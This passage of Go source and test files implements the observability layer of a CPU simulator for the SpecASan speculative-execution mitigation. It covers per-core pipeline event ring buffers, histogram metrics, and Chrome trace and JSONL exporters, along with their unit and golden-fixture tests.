	for i := uint64(0); i < 4; i++ {
		tr.Record(i, i, 0, EvCommit, 0)
	}
	if tr.Dropped() != 0 || tr.Len() != 4 || tr.Events()[0].Seq != 0 {
		t.Fatalf("exactly-full ring: Dropped=%d Len=%d first=%+v", tr.Dropped(), tr.Len(), tr.Events()[0])
	}
}

func TestCoreTraceDefaultCapacity(t *testing.T) {
	tr := NewCoreTrace(0, 0)
	if len(tr.buf) != DefaultTraceCapacity {
		t.Fatalf("default capacity = %d", len(tr.buf))
	}
}

func TestTracerCoreBounds(t *testing.T) {
	var nilTr *Tracer
	if nilTr.Core(0) != nil {
		t.Fatal("nil tracer must yield nil cores")
	}
	tr := NewTracer(2, 16)
	if tr.Cores() != 2 {
		t.Fatalf("Cores() = %d", tr.Cores())
	}
	if tr.Core(-1) != nil || tr.Core(2) != nil {
		t.Fatal("out-of-range cores must be nil")
	}
	if tr.Core(0) == nil || tr.Core(1) == nil || tr.Core(0) == tr.Core(1) {
		t.Fatal("in-range cores must be distinct non-nil rings")
	}
	tr.Core(0).Record(1, 1, 0, EvFetch, 0)
	tr.Core(1).Record(2, 2, 0, EvFetch, 0)
	tr.Core(1).Record(3, 3, 0, EvFetch, 0)
	if tr.Recorded() != 3 || tr.Dropped() != 0 {
		t.Fatalf("Recorded=%d Dropped=%d", tr.Recorded(), tr.Dropped())
	}
}

func TestEventKindString(t *testing.T) {
	for k := EventKind(0); k < numEventKinds; k++ {
		if k.String() == "" || k.String() == "event(?)" {
			t.Fatalf("kind %d has no name", k)
		}
	}
	if EventKind(200).String() != "event(?)" {
		t.Fatal("out-of-range kind must not panic")
	}
}

func TestRegistryCreateAndReuse(t *testing.T) {
	r := NewRegistry()
	a := r.Histogram("core0", "lat", 4, 8)
	b := r.Histogram("core0", "lat", 4, 8)
	if a != b {
		t.Fatal("same key must return the same histogram")
	}
	r.Histogram("core1", "lat", 4, 8)
	r.Histogram("core0", "depth", 2, 4)
	hists := r.Hists()
	wantKeys := []string{"core0/lat", "core1/lat", "core0/depth"}
	if len(hists) != len(wantKeys) {
		t.Fatalf("%d histograms registered", len(hists))
	}
	for i, h := range hists {
		if h.Key() != wantKeys[i] {
			t.Fatalf("registration order %v, want %v", h.Key(), wantKeys[i])
		}
	}
}

func TestRegistryShapeMismatchPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("shape mismatch must panic")
		}
	}()
	r := NewRegistry()
	r.Histogram("c", "h", 4, 8)
	r.Histogram("c", "h", 8, 8)
}

func TestRegistryMerge(t *testing.T) {
	a, b := NewRegistry(), NewRegistry()
	a.Histogram("core0", "lat", 4, 8).Observe(3)
	b.Histogram("core0", "lat", 4, 8).Observe(5)
	b.Histogram("core1", "lat", 4, 8).Observe(9)
	a.Merge(b)
	hists := a.Hists()
	if len(hists) != 2 {
		t.Fatalf("merged registry has %d histograms", len(hists))
	}
	if hists[0].Key() != "core0/lat" || hists[1].Key() != "core1/lat" {
		t.Fatalf("merge order: %s, %s", hists[0].Key(), hists[1].Key())
	}
	if hists[0].H.N != 2 || hists[0].H.Sum != 8 {
		t.Fatalf("merged core0/lat: N=%d Sum=%d", hists[0].H.N, hists[0].H.Sum)
	}
	if hists[1].H.N != 1 || hists[1].H.Sum != 9 {
		t.Fatalf("merged core1/lat: N=%d Sum=%d", hists[1].H.N, hists[1].H.Sum)
	}
}

func TestMetricsCoreBounds(t *testing.T) {
	var nilM *Metrics
	if nilM.Core(0) != nil {
		t.Fatal("nil metrics must yield nil cores")
	}
	m := NewMetrics(2)
	if m.Core(-1) != nil || m.Core(2) != nil {
		t.Fatal("out-of-range cores must be nil")
	}
	cm := m.Core(1)
	if cm == nil || cm.IssueToCommit == nil || cm.TagDelay == nil ||
		cm.SquashDepth == nil || cm.LFBStall == nil {
		t.Fatal("core metrics must be fully preallocated")
	}
	// Per-core bundles share the registry: the export sees the observation.
	cm.TagDelay.Observe(12)
	for _, h := range m.Registry().Hists() {
		if h.Key() == "core1/tag_check_delay_cycles" && h.H.N == 1 {
			return
		}
	}
	t.Fatal("observation did not reach the registry")
}
