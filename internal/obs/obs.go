// Package obs is the simulator's observability layer: a zero-cost-when-off
// per-core event trace of each instruction's pipeline lifecycle (plus the
// SpecASan-specific events the paper's argument turns on — tag-check delays,
// LFB stalls, risk marks), a metrics registry of labelled histograms layered
// on internal/stats, and exporters for Chrome trace-event JSON and a JSONL
// metrics stream.
//
// The design contract mirrors gem5's --debug-flags machinery: hooks in
// internal/cpu and internal/cache are nil-guarded pointers, so a simulator
// with tracing disabled pays one pointer compare per hook site and allocates
// nothing. With tracing enabled, recording is a single store into a
// preallocated ring buffer — still allocation-free in steady state, so the
// trace can stay attached for the whole run.
package obs

// EventKind identifies one pipeline or policy event.
type EventKind uint8

// The event kinds. Stage-lifecycle events carry the instruction's sequence
// number and PC; the Arg field is kind-specific (see each constant).
const (
	// EvFetch: an instruction left the front end's fetch stage. Seq is 0
	// (sequence numbers are assigned at dispatch); PC identifies it.
	EvFetch EventKind = iota
	// EvDispatch: renamed and inserted into the ROB/IQ.
	EvDispatch
	// EvIssue: selected for execution (operands ready, port available).
	EvIssue
	// EvExec: began executing on a functional unit.
	EvExec
	// EvMem: issued a data-side cache access. Arg is the stripped address.
	EvMem
	// EvCommit: retired architecturally. Arg is the issue-to-commit latency
	// in cycles (0 when the instruction never passed through issue).
	EvCommit
	// EvSquash: flushed from the pipeline before commit.
	EvSquash
	// EvTagDelayStart: SpecASan held an unsafe speculative access (SSA=0);
	// the ROB entry waits for speculation to resolve.
	EvTagDelayStart
	// EvTagDelayEnd: the delayed access replayed. Arg is the delay in cycles.
	EvTagDelayEnd
	// EvLFBStall: a cache access waited on an in-flight line-fill-buffer
	// entry. Arg is the number of stall cycles.
	EvLFBStall
	// EvRiskMark: the entry entered the core's risk queue (pending fault,
	// assist, or false store-to-load forward).
	EvRiskMark
	// EvRiskClear: the entry left the risk queue (committed or squashed).
	EvRiskClear

	numEventKinds
)

var eventKindNames = [numEventKinds]string{
	EvFetch:         "fetch",
	EvDispatch:      "dispatch",
	EvIssue:         "issue",
	EvExec:          "exec",
	EvMem:           "mem",
	EvCommit:        "commit",
	EvSquash:        "squash",
	EvTagDelayStart: "tag-delay-start",
	EvTagDelayEnd:   "tag-delay-end",
	EvLFBStall:      "lfb-stall",
	EvRiskMark:      "risk-mark",
	EvRiskClear:     "risk-clear",
}

// String names the kind.
func (k EventKind) String() string {
	if int(k) < len(eventKindNames) {
		return eventKindNames[k]
	}
	return "event(?)"
}

// Event is one recorded trace event. The struct is plain data (no pointers)
// so the ring buffer is a flat allocation the garbage collector never scans.
type Event struct {
	Cycle uint64
	Seq   uint64
	PC    uint64
	Arg   uint64
	Kind  EventKind
}

// CoreTrace is a bounded single-writer ring buffer of events for one core.
// The simulator ticks each core from a single goroutine, so recording needs
// no synchronisation (machines running concurrently in a sweep each own
// their tracer). When the ring fills, the oldest events are overwritten and
// counted in Dropped.
type CoreTrace struct {
	coreID int
	buf    []Event
	n      uint64 // total events ever recorded
}

// DefaultTraceCapacity bounds a core's ring when the caller passes 0:
// large enough for full small-kernel runs, small enough to stay cheap.
const DefaultTraceCapacity = 1 << 18

// NewCoreTrace returns a trace ring for core id with the given capacity
// (0 = DefaultTraceCapacity).
func NewCoreTrace(id, capacity int) *CoreTrace {
	if capacity <= 0 {
		capacity = DefaultTraceCapacity
	}
	return &CoreTrace{coreID: id, buf: make([]Event, capacity)}
}

// Record appends one event. It never allocates: the hot-path cost is one
// slot store and two counter updates.
func (t *CoreTrace) Record(cycle, seq, pc uint64, kind EventKind, arg uint64) {
	t.buf[t.n%uint64(len(t.buf))] = Event{Cycle: cycle, Seq: seq, PC: pc, Arg: arg, Kind: kind}
	t.n++
}

// CoreID returns the owning core's index.
func (t *CoreTrace) CoreID() int { return t.coreID }

// Len returns the number of events currently held (≤ capacity).
func (t *CoreTrace) Len() int {
	if t.n < uint64(len(t.buf)) {
		return int(t.n)
	}
	return len(t.buf)
}

// Recorded returns the total number of events ever recorded.
func (t *CoreTrace) Recorded() uint64 { return t.n }

// Dropped returns how many events were overwritten by ring wraparound.
func (t *CoreTrace) Dropped() uint64 {
	if t.n <= uint64(len(t.buf)) {
		return 0
	}
	return t.n - uint64(len(t.buf))
}

// Events returns the retained events oldest-first. The slice is freshly
// allocated; call once at export time, not per cycle.
func (t *CoreTrace) Events() []Event {
	if t.n <= uint64(len(t.buf)) {
		return append([]Event(nil), t.buf[:t.n]...)
	}
	start := t.n % uint64(len(t.buf))
	out := make([]Event, 0, len(t.buf))
	out = append(out, t.buf[start:]...)
	return append(out, t.buf[:start]...)
}

// Tracer holds one CoreTrace per simulated core plus the machine-shared
// cache hierarchy's view into them (the hierarchy records LFB stalls into
// the requesting core's ring).
type Tracer struct {
	cores []*CoreTrace
}

// NewTracer builds a tracer for n cores with the given per-core ring
// capacity (0 = DefaultTraceCapacity).
func NewTracer(n, capacity int) *Tracer {
	tr := &Tracer{cores: make([]*CoreTrace, n)}
	for i := range tr.cores {
		tr.cores[i] = NewCoreTrace(i, capacity)
	}
	return tr
}

// Core returns core i's trace ring (nil when out of range, so callers on
// shared structures can stay unconditional).
func (tr *Tracer) Core(i int) *CoreTrace {
	if tr == nil || i < 0 || i >= len(tr.cores) {
		return nil
	}
	return tr.cores[i]
}

// Cores returns the number of per-core rings.
func (tr *Tracer) Cores() int { return len(tr.cores) }

// Recorded sums the events ever recorded across cores.
func (tr *Tracer) Recorded() uint64 {
	var n uint64
	for _, c := range tr.cores {
		n += c.Recorded()
	}
	return n
}

// Dropped sums ring-overwritten events across cores.
func (tr *Tracer) Dropped() uint64 {
	var n uint64
	for _, c := range tr.cores {
		n += c.Dropped()
	}
	return n
}
