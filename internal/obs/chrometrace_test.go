package obs

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

var update = flag.Bool("update", false, "rewrite golden fixtures")

// fixtureTracer builds the deterministic two-core trace behind the golden
// fixture: a full instruction lifecycle on core 0 (including a SpecASan
// tag-check delay and a squash) and an LFB stall on core 1.
func fixtureTracer() *Tracer {
	tr := NewTracer(2, 64)
	c0 := tr.Core(0)
	c0.Record(10, 0, 0x4000, EvFetch, 0)
	c0.Record(11, 7, 0x4000, EvDispatch, 0)
	c0.Record(12, 7, 0x4000, EvIssue, 0)
	c0.Record(12, 7, 0x4000, EvExec, 0)
	c0.Record(13, 7, 0x4000, EvMem, 0x9000)
	c0.Record(14, 7, 0x4000, EvTagDelayStart, 0)
	c0.Record(30, 7, 0x4000, EvTagDelayEnd, 16)
	c0.Record(35, 7, 0x4000, EvCommit, 23)
	c0.Record(36, 8, 0x4004, EvRiskMark, 0)
	c0.Record(40, 8, 0x4004, EvSquash, 0)
	c0.Record(40, 8, 0x4004, EvRiskClear, 0)
	c1 := tr.Core(1)
	c1.Record(20, 0, 0xa000, EvLFBStall, 9)
	c1.Record(21, 3, 0x4010, EvCommit, 0) // zero-latency commit: dur clamps to 1
	return tr
}

func TestChromeTraceGolden(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteChromeTrace(&buf, fixtureTracer()); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("testdata", "chrometrace_golden.json")
	if *update {
		if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to regenerate)", err)
	}
	if !bytes.Equal(buf.Bytes(), want) {
		t.Errorf("trace output drifted from %s (run with -update after deliberate format changes)", path)
	}
}

// TestChromeTraceEventFields validates the Trace Event Format contract on
// every emitted record: a known phase, in-range pid/tid, duration only on
// complete spans, and scope only on instants.
func TestChromeTraceEventFields(t *testing.T) {
	tr := fixtureTracer()
	ct := BuildChromeTrace(tr)
	if ct.DisplayTimeUnit != "ms" {
		t.Fatalf("displayTimeUnit = %q", ct.DisplayTimeUnit)
	}
	metas := 0
	for i, ev := range ct.TraceEvents {
		if ev.Pid < 0 || ev.Pid >= tr.Cores() {
			t.Fatalf("event %d: pid %d out of range", i, ev.Pid)
		}
		if ev.Tid < 0 || ev.Tid >= numTracks {
			t.Fatalf("event %d: tid %d out of range", i, ev.Tid)
		}
		switch ev.Ph {
		case "M":
			metas++
			if ev.Args == nil || ev.Args.Meta == "" {
				t.Fatalf("event %d: metadata without a name", i)
			}
		case "X":
			if ev.Dur == 0 {
				t.Fatalf("event %d: complete span with dur=0 (Perfetto drops it)", i)
			}
			if ev.S != "" {
				t.Fatalf("event %d: span with instant scope %q", i, ev.S)
			}
		case "i":
			if ev.S != "t" {
				t.Fatalf("event %d: instant scope = %q, want thread", i, ev.S)
			}
			if ev.Dur != 0 {
				t.Fatalf("event %d: instant with a duration", i)
			}
		default:
			t.Fatalf("event %d: unknown phase %q", i, ev.Ph)
		}
	}
	// One process_name per core plus one thread_name per track per core.
	if want := tr.Cores() * (1 + numTracks); metas != want {
		t.Fatalf("%d metadata events, want %d", metas, want)
	}
}

// TestChromeTraceSpans checks the span arithmetic: events that carry their
// own duration reconstruct [start, end] without needing the (possibly
// ring-dropped) start event.
func TestChromeTraceSpans(t *testing.T) {
	ct := BuildChromeTrace(fixtureTracer())
	var spans []ChromeEvent
	for _, ev := range ct.TraceEvents {
		if ev.Ph == "X" {
			spans = append(spans, ev)
		}
	}
	if len(spans) != 4 {
		t.Fatalf("%d spans, want 4 (tag-delay, commit, lfb-stall, zero-latency commit)", len(spans))
	}
	type want struct {
		name    string
		ts, dur uint64
		tid     int
	}
	for i, w := range []want{
		{"tag-delay", 14, 16, TrackTagDelay}, // ends at cycle 30
		{"inflight", 12, 23, TrackCommit},    // issue 12 → commit 35
		{"lfb-stall", 20, 9, TrackLFB},
		{"inflight", 21, 1, TrackCommit}, // dur 0 clamps to 1
	} {
		got := spans[i]
		if got.Name != w.name || got.Ts != w.ts || got.Dur != w.dur || got.Tid != w.tid {
			t.Fatalf("span %d = %+v, want %+v", i, got, w)
		}
	}
}

// TestChromeTraceRoundTrip marshals the trace, unmarshals it, and re-marshals:
// the schema must survive encoding/json both ways byte-identically.
func TestChromeTraceRoundTrip(t *testing.T) {
	ct := BuildChromeTrace(fixtureTracer())
	data, err := json.Marshal(ct)
	if err != nil {
		t.Fatal(err)
	}
	var back ChromeTrace
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(*ct, back) {
		t.Fatal("trace did not survive a JSON round trip")
	}
	data2, err := json.Marshal(&back)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, data2) {
		t.Fatal("re-marshal is not byte-identical")
	}
}

func TestMetricsRecordRoundTrip(t *testing.T) {
	m := NewMetrics(2)
	m.Core(0).IssueToCommit.Observe(10)
	m.Core(0).IssueToCommit.Observe(300) // lands in the clamped top bucket
	m.Core(1).TagDelay.Observe(48)
	rec := m.Record("505.mcf_r", "SpecASan", 1234, 999)
	if rec.Schema != MetricsSchema {
		t.Fatalf("schema = %q", rec.Schema)
	}
	var buf bytes.Buffer
	if err := WriteMetricsLine(&buf, rec); err != nil {
		t.Fatal(err)
	}
	line := buf.Bytes()
	if line[len(line)-1] != '\n' {
		t.Fatal("JSONL line must end in newline")
	}
	var back MetricsRecord
	if err := json.Unmarshal(line, &back); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(rec, back) {
		t.Fatalf("record did not survive a JSON round trip:\n%+v\n%+v", rec, back)
	}
	// 2 cores x 4 metrics, core-major registration order.
	if len(back.Histograms) != 8 {
		t.Fatalf("%d histograms", len(back.Histograms))
	}
	if back.Histograms[0].Component != "core0" || back.Histograms[4].Component != "core1" {
		t.Fatal("histogram order lost")
	}
	// Trailing-zero trimming: the top-bucket sample keeps all 64 buckets, the
	// untouched histograms serialise with no counts at all.
	if n := len(back.Histograms[0].Counts); n != 64 {
		t.Fatalf("core0 issue-to-commit counts trimmed to %d, want full 64 (top bucket hit)", n)
	}
	if back.Histograms[1].Counts != nil {
		t.Fatal("empty histogram must serialise without counts")
	}
}
