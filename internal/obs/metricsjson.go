package obs

import (
	"encoding/json"
	"io"
)

// MetricsSchema versions the JSONL metrics stream. Each line is one
// MetricsRecord — the harness emits one per sweep cell, specasan-sim one per
// run.
const MetricsSchema = "specasan-obs/metrics/v1"

// HistSummary is the exported form of one labelled histogram: identity,
// moments, bucket percentile bounds, and the raw buckets (trailing zero
// buckets trimmed) so downstream tooling can re-derive anything else.
type HistSummary struct {
	Component   string   `json:"component"`
	Name        string   `json:"name"`
	N           uint64   `json:"n"`
	Mean        float64  `json:"mean"`
	P50         uint64   `json:"p50"`
	P90         uint64   `json:"p90"`
	P99         uint64   `json:"p99"`
	Max         uint64   `json:"max"`
	BucketWidth uint64   `json:"bucket_width"`
	Counts      []uint64 `json:"counts,omitempty"`
}

// SampledRegions annotates a fast-forward sampled run: how much of it ran
// functionally (no histograms, no cycle cost) versus in detailed windows
// (where every histogram sample comes from). Consumers must read a record
// carrying this as "histograms cover the detailed regions only, cycle/inst
// totals are extrapolated".
type SampledRegions struct {
	// FunctionalInsts is the instruction count executed on the golden
	// interpreter (fast-forward), contributing nothing to the histograms.
	FunctionalInsts uint64 `json:"functional_insts"`
	// DetailedInsts / DetailedCycles are the cycle-accurate region's totals,
	// warmup included.
	DetailedInsts  uint64 `json:"detailed_insts"`
	DetailedCycles uint64 `json:"detailed_cycles"`
	// WarmupCycles is the detailed prefix (per window) excluded from the IPC
	// estimate the extrapolated totals are built on.
	WarmupCycles uint64 `json:"warmup_cycles"`
	// Windows is the detailed-window count (1 = tail mode).
	Windows int `json:"windows"`
}

// MetricsRecord is one JSONL line: which cell produced it plus every
// registered histogram in registration order.
type MetricsRecord struct {
	Schema     string `json:"schema"`
	Bench      string `json:"bench"`
	Mitigation string `json:"mitigation"`
	// ScenarioHash is the canonical content hash of the scenario that
	// produced this record (internal/scenario), empty for ad-hoc runs.
	// omitempty keeps pre-scenario streams byte-identical.
	ScenarioHash string `json:"scenario_hash,omitempty"`
	Cycles       uint64 `json:"cycles,omitempty"`
	Insts        uint64 `json:"insts,omitempty"`
	// Sampled marks a fast-forward sampled run; nil (omitted) for full
	// detailed runs, keeping pre-sampling streams byte-identical.
	Sampled    *SampledRegions `json:"sampled,omitempty"`
	Histograms []HistSummary   `json:"histograms"`
}

// Summaries exports every registered histogram in registration order.
func (r *Registry) Summaries() []HistSummary {
	out := make([]HistSummary, 0, len(r.hists))
	for _, h := range r.hists {
		s := HistSummary{
			Component:   h.Component,
			Name:        h.Name,
			N:           h.H.N,
			Mean:        h.H.MeanValue(),
			P50:         h.H.Percentile(50),
			P90:         h.H.Percentile(90),
			P99:         h.H.Percentile(99),
			Max:         h.H.Max,
			BucketWidth: h.H.BucketWidth,
		}
		last := -1
		for i, c := range h.H.Counts {
			if c != 0 {
				last = i
			}
		}
		if last >= 0 {
			s.Counts = append([]uint64(nil), h.H.Counts[:last+1]...)
		}
		out = append(out, s)
	}
	return out
}

// Record builds the JSONL record for this metrics bundle.
func (m *Metrics) Record(bench, mitigation string, cycles, insts uint64) MetricsRecord {
	return MetricsRecord{
		Schema:     MetricsSchema,
		Bench:      bench,
		Mitigation: mitigation,
		Cycles:     cycles,
		Insts:      insts,
		Histograms: m.reg.Summaries(),
	}
}

// WriteMetricsLine appends rec to w as one JSON line. Output is
// deterministic: MetricsRecord is all structs and ordered slices.
func WriteMetricsLine(w io.Writer, rec MetricsRecord) error {
	data, err := json.Marshal(rec)
	if err != nil {
		return err
	}
	data = append(data, '\n')
	_, err = w.Write(data)
	return err
}
