package obs

import (
	"fmt"

	"specasan/internal/stats"
)

// Hist is one labelled histogram in a Registry: a name (the metric), a
// component label (which part of the machine produced it — "core0", "l1d"),
// and the backing stats.Histogram.
type Hist struct {
	Name      string
	Component string
	H         *stats.Histogram
}

// Key returns the registry key, "component/name".
func (h *Hist) Key() string { return h.Component + "/" + h.Name }

// Registry is an ordered collection of labelled histograms layered on
// internal/stats. Ordering is first-registration order (like stats.Set's
// counters), which is what keeps every JSON export byte-deterministic.
type Registry struct {
	hists []*Hist
	byKey map[string]*Hist
}

// NewRegistry returns an empty registry.
func NewRegistry() *Registry {
	return &Registry{byKey: make(map[string]*Hist)}
}

// Histogram returns the histogram registered under (component, name),
// creating it with the given shape on first use. Asking for an existing key
// with a different shape is a programming error and panics.
func (r *Registry) Histogram(component, name string, bucketWidth uint64, buckets int) *stats.Histogram {
	key := component + "/" + name
	if h, ok := r.byKey[key]; ok {
		if h.H.BucketWidth != bucketWidth || len(h.H.Counts) != buckets {
			panic(fmt.Sprintf("obs: histogram %s re-registered with different shape", key))
		}
		return h.H
	}
	h := &Hist{Name: name, Component: component, H: stats.NewHistogram(bucketWidth, buckets)}
	r.hists = append(r.hists, h)
	r.byKey[key] = h
	return h.H
}

// Hists returns the registered histograms in registration order.
func (r *Registry) Hists() []*Hist { return r.hists }

// Merge folds every histogram of other into r, creating same-shaped
// histograms for keys r has not seen. Registration order of new keys follows
// other's order, so merging per-core registries in core order is
// deterministic.
func (r *Registry) Merge(other *Registry) {
	for _, h := range other.hists {
		dst := r.Histogram(h.Component, h.Name, h.H.BucketWidth, len(h.H.Counts))
		dst.Merge(h.H)
	}
}

// Histogram bucket shapes for the core metrics. Widths are in cycles; the
// top bucket absorbs the tail (stats.Histogram clamps).
const (
	issueToCommitBucketW = 4
	issueToCommitBuckets = 64
	tagDelayBucketW      = 8
	tagDelayBuckets      = 64
	squashDepthBucketW   = 8
	squashDepthBuckets   = 32
	lfbStallBucketW      = 8
	lfbStallBuckets      = 32
)

// CoreMetrics is the per-core bundle the pipeline observes into directly.
// Every field is preallocated at attach time; Observe calls are plain array
// increments, so the metrics path is allocation-free in steady state.
type CoreMetrics struct {
	// IssueToCommit is the issue-to-commit latency of committed
	// instructions, in cycles.
	IssueToCommit *stats.Histogram
	// TagDelay is the number of cycles SpecASan held each unsafe
	// speculative access before replaying it.
	TagDelay *stats.Histogram
	// SquashDepth is the number of instructions flushed per squash.
	SquashDepth *stats.Histogram
	// LFBStall is the number of cycles accesses waited on in-flight
	// line-fill-buffer entries.
	LFBStall *stats.Histogram
}

// Metrics is a machine's metrics bundle: one CoreMetrics per core, all
// registered in one Registry under "core<i>" component labels.
type Metrics struct {
	reg   *Registry
	cores []*CoreMetrics
}

// NewMetrics builds the metrics bundle for n cores.
func NewMetrics(n int) *Metrics {
	m := &Metrics{reg: NewRegistry(), cores: make([]*CoreMetrics, n)}
	for i := range m.cores {
		comp := fmt.Sprintf("core%d", i)
		m.cores[i] = &CoreMetrics{
			IssueToCommit: m.reg.Histogram(comp, "issue_to_commit_cycles", issueToCommitBucketW, issueToCommitBuckets),
			TagDelay:      m.reg.Histogram(comp, "tag_check_delay_cycles", tagDelayBucketW, tagDelayBuckets),
			SquashDepth:   m.reg.Histogram(comp, "squash_depth_insts", squashDepthBucketW, squashDepthBuckets),
			LFBStall:      m.reg.Histogram(comp, "lfb_stall_cycles", lfbStallBucketW, lfbStallBuckets),
		}
	}
	return m
}

// Core returns core i's metrics bundle (nil when out of range).
func (m *Metrics) Core(i int) *CoreMetrics {
	if m == nil || i < 0 || i >= len(m.cores) {
		return nil
	}
	return m.cores[i]
}

// Registry exposes the underlying registry (exports, tests).
func (m *Metrics) Registry() *Registry { return m.reg }
