package obs

import (
	"encoding/json"
	"fmt"
	"io"
)

// Chrome trace-event export. The output is the Trace Event Format's "JSON
// Object Format" ({"traceEvents": [...]}), loadable in chrome://tracing and
// Perfetto (ui.perfetto.dev). One simulated core maps to one process (pid)
// and each pipeline stage to one named thread track (tid) inside it; one
// simulated cycle maps to one microsecond of trace time, so "1 ms" on the
// Perfetto timeline reads as 1000 cycles.
//
// Determinism: every emitted value is a struct (encoding/json marshals
// struct fields in declaration order) and events are walked core-by-core in
// ring order, so the same trace always serialises to the same bytes.

// Track ids (tid) within a core's process. Stage-lifecycle tracks first, in
// pipeline order, then the SpecASan-specific tracks.
const (
	TrackFetch = iota
	TrackDispatch
	TrackIssue
	TrackExec
	TrackMem
	TrackCommit
	TrackSquash
	TrackTagDelay
	TrackLFB
	TrackRisk

	numTracks
)

var trackNames = [numTracks]string{
	TrackFetch:    "fetch",
	TrackDispatch: "dispatch",
	TrackIssue:    "issue",
	TrackExec:     "exec",
	TrackMem:      "mem",
	TrackCommit:   "commit",
	TrackSquash:   "squash",
	TrackTagDelay: "specasan-tag-delay",
	TrackLFB:      "lfb-stall",
	TrackRisk:     "risk-queue",
}

// ChromeEvent is one trace-event record. Ph is the event phase: "M"
// (metadata), "X" (complete span, with Dur), or "i" (instant, with S scope).
type ChromeEvent struct {
	Name string      `json:"name"`
	Ph   string      `json:"ph"`
	Ts   uint64      `json:"ts"`
	Pid  int         `json:"pid"`
	Tid  int         `json:"tid"`
	Dur  uint64      `json:"dur,omitempty"`
	S    string      `json:"s,omitempty"`
	Args *ChromeArgs `json:"args,omitempty"`
}

// ChromeArgs carries the per-event payload shown in the Perfetto detail
// panel. Meta is set only on "M" metadata events (track/process names).
type ChromeArgs struct {
	Seq  uint64 `json:"seq,omitempty"`
	PC   string `json:"pc,omitempty"`
	Arg  uint64 `json:"arg,omitempty"`
	Meta string `json:"name,omitempty"`
}

// ChromeTrace is the top-level trace object.
type ChromeTrace struct {
	DisplayTimeUnit string        `json:"displayTimeUnit"`
	TraceEvents     []ChromeEvent `json:"traceEvents"`
}

// BuildChromeTrace converts the tracer's retained events into a trace
// object. Span reconstruction uses only information inside single events
// (EvCommit and EvTagDelayEnd carry their own durations), so a ring that
// wrapped and lost early events still yields a well-formed trace.
func BuildChromeTrace(tr *Tracer) *ChromeTrace {
	ct := &ChromeTrace{DisplayTimeUnit: "ms"}
	for i := 0; i < tr.Cores(); i++ {
		core := tr.Core(i)
		ct.TraceEvents = append(ct.TraceEvents, ChromeEvent{
			Name: "process_name", Ph: "M", Pid: i,
			Args: &ChromeArgs{Meta: fmt.Sprintf("core%d", i)},
		})
		for tid, tn := range trackNames {
			ct.TraceEvents = append(ct.TraceEvents, ChromeEvent{
				Name: "thread_name", Ph: "M", Pid: i, Tid: tid,
				Args: &ChromeArgs{Meta: tn},
			})
		}
		for _, ev := range core.Events() {
			ct.TraceEvents = append(ct.TraceEvents, chromeFromEvent(i, ev))
		}
	}
	return ct
}

// chromeFromEvent maps one ring event to its trace-event record. Events
// that carry a duration (EvCommit: issue→commit; EvTagDelayEnd: the held
// window; EvLFBStall: the fill wait) become "X" spans starting Arg cycles
// before the recorded cycle; everything else is an instant.
func chromeFromEvent(pid int, ev Event) ChromeEvent {
	args := &ChromeArgs{Seq: ev.Seq, PC: fmt.Sprintf("0x%x", ev.PC)}
	switch ev.Kind {
	case EvCommit:
		return ChromeEvent{
			Name: "inflight", Ph: "X", Ts: ev.Cycle - ev.Arg, Dur: spanDur(ev.Arg),
			Pid: pid, Tid: TrackCommit, Args: args,
		}
	case EvTagDelayEnd:
		args.Arg = ev.Arg
		return ChromeEvent{
			Name: "tag-delay", Ph: "X", Ts: ev.Cycle - ev.Arg, Dur: spanDur(ev.Arg),
			Pid: pid, Tid: TrackTagDelay, Args: args,
		}
	case EvLFBStall:
		args.Arg = ev.Arg
		return ChromeEvent{
			Name: "lfb-stall", Ph: "X", Ts: ev.Cycle, Dur: spanDur(ev.Arg),
			Pid: pid, Tid: TrackLFB, Args: args,
		}
	case EvMem:
		args.Arg = ev.Arg // stripped address
		return ChromeEvent{
			Name: ev.Kind.String(), Ph: "i", Ts: ev.Cycle, S: "t",
			Pid: pid, Tid: TrackMem, Args: args,
		}
	default:
		return ChromeEvent{
			Name: ev.Kind.String(), Ph: "i", Ts: ev.Cycle, S: "t",
			Pid: pid, Tid: instantTrack(ev.Kind), Args: args,
		}
	}
}

// spanDur keeps zero-length spans visible: Perfetto drops dur=0 slices.
func spanDur(d uint64) uint64 {
	if d == 0 {
		return 1
	}
	return d
}

func instantTrack(k EventKind) int {
	switch k {
	case EvFetch:
		return TrackFetch
	case EvDispatch:
		return TrackDispatch
	case EvIssue:
		return TrackIssue
	case EvExec:
		return TrackExec
	case EvSquash:
		return TrackSquash
	case EvTagDelayStart:
		return TrackTagDelay
	case EvRiskMark, EvRiskClear:
		return TrackRisk
	default:
		return TrackExec
	}
}

// WriteChromeTrace serialises the tracer as Chrome trace-event JSON.
func WriteChromeTrace(w io.Writer, tr *Tracer) error {
	data, err := json.MarshalIndent(BuildChromeTrace(tr), "", " ")
	if err != nil {
		return err
	}
	data = append(data, '\n')
	_, err = w.Write(data)
	return err
}
