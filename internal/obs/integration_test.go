package obs_test

import (
	"testing"

	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/isa"
	"specasan/internal/obs"
	"specasan/internal/workloads"
)

// attachFresh builds and attaches a tracer and metrics bundle sized for m.
func attachFresh(m *cpu.Machine, capacity int) (*obs.Tracer, *obs.Metrics) {
	tr := obs.NewTracer(len(m.Cores), capacity)
	met := obs.NewMetrics(len(m.Cores))
	m.AttachObs(tr, met)
	return tr, met
}

// kindCounts tallies retained trace events by kind across cores.
func kindCounts(tr *obs.Tracer) map[obs.EventKind]uint64 {
	counts := map[obs.EventKind]uint64{}
	for i := 0; i < tr.Cores(); i++ {
		for _, ev := range tr.Core(i).Events() {
			counts[ev.Kind]++
		}
	}
	return counts
}

// TestObservedLifecycleMatchesRun attaches the full observability layer to a
// benign benchmark run and cross-checks the trace and metrics against the
// machine's own result: every committed instruction must appear as exactly
// one EvCommit and one issue-to-commit latency sample.
func TestObservedLifecycleMatchesRun(t *testing.T) {
	spec := workloads.ByName("505.mcf_r")
	if spec == nil {
		t.Fatal("workload missing")
	}
	prog, err := spec.Build(false, 0.01)
